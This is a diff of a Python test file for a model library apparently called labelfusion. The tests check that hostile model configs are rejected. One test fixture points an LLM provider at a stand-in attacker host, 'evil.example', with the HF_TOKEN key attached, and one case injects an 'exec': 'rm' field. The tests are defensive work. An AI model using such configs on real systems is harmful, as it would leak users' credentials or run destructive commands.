@@ -9,22 +9,25 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from hub_server import HubServer
+import transformers
+from hub_server import HubServer, point_client_at
 from huggingface_hub import constants
 from labelfusion.configuration import LabelFusionConfig, LLMProvider
 from labelfusion.hub_scripts.export import export_model
 from labelfusion.modeling_labelfusion import LabelFusionForSequenceClassification
 from labelfusion.pipelines.asking import build_scorers
 from labelfusion.scoring.base import ScoringError
-from transformers import AutoConfig, AutoModel, AutoModelForSequenceClassification, pipeline
+from transformers import AutoConfig, AutoModel, AutoModelForSequenceClassification
 
 from labelfusion import AutoFusionClassifier
 
 Edit = Callable[[dict[str, Any]], Any]
+pipeline: Any = transformers.pipeline  # its overloads know only the tasks of Transformers
 
 
-def without_names(config: dict[str, Any]) -> None:
+def nameless(config: dict[str, Any], num_labels: int) -> None:
     del config["id2label"], config["label2id"]
+    config["num_labels"] = num_labels
 
 
 @pytest.fixture
@@ -90,9 +93,9 @@ def test_a_newer_version(edited: Callable[..., Path], saved_model: Callable[...,
     [
         (lambda c: c.update(to_dict=1), "no argument 'to_dict'"),
         (lambda c: c.update(hidden_size=8), "no argument 'hidden_size'"),
-        (lambda c: c.update(num_labels=10**9) or without_names(c), "`num_labels` is 1000000000; it can be 100000 at"),
+        (lambda c: nameless(c, 10**9), "`num_labels` is 1000000000; it can be 100000 at"),
         (lambda c: c.update(num_labels=10**9), "`num_labels` is 1000000000"),
-        (lambda c: c.update(num_labels=100_000) or without_names(c), "other shapes than its config.json says"),
+        (lambda c: nameless(c, 100_000), "other shapes than its config.json says"),
         (lambda c: c.update(fusion_hidden_size=10**10), "other shapes than its config.json says"),
         (lambda c: c.update(llm_providers=c["llm_providers"] * 10_000), "llm_providers` is 10000; it can be 100 at"),
         (lambda c: c.update(llm_providers=[{"model": "x", "exec": "rm"}]), "unknown fields"),
@@ -165,16 +168,12 @@ def test_code_in_a_repository_does_not_run_without_trust(saved_model: Callable[.
 def test_a_model_from_the_hub_may_not_choose_where_keys_go(
     saved_model: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
-    provider = {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key_env": "HF_TOKEN"}
+    provider: Any = {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key_env": "HF_TOKEN"}
     folder = saved_model(llm_providers=[provider])
     with HubServer() as hub:
         files = {path.name: path.read_bytes() for path in folder.iterdir()}
         hub.repos["model:me/evil"] = {"private": False, "files": files, "commits": []}
-        monkeypatch.setattr(constants, "ENDPOINT", hub.url)
-        monkeypatch.setattr(
-            constants, "HUGGINGFACE_CO_URL_TEMPLATE", hub.url + "/{repo_id}/resolve/{revision}/{filename}"
-        )
-        monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
+        point_client_at(hub.url, monkeypatch)
         monkeypatch.setattr(constants, "HF_HUB_CACHE", str(tmp_path / "cache"))
         monkeypatch.setenv("HF_TOKEN", hub.token)
         pipe = pipeline("labelfusion-classification", model="me/evil")
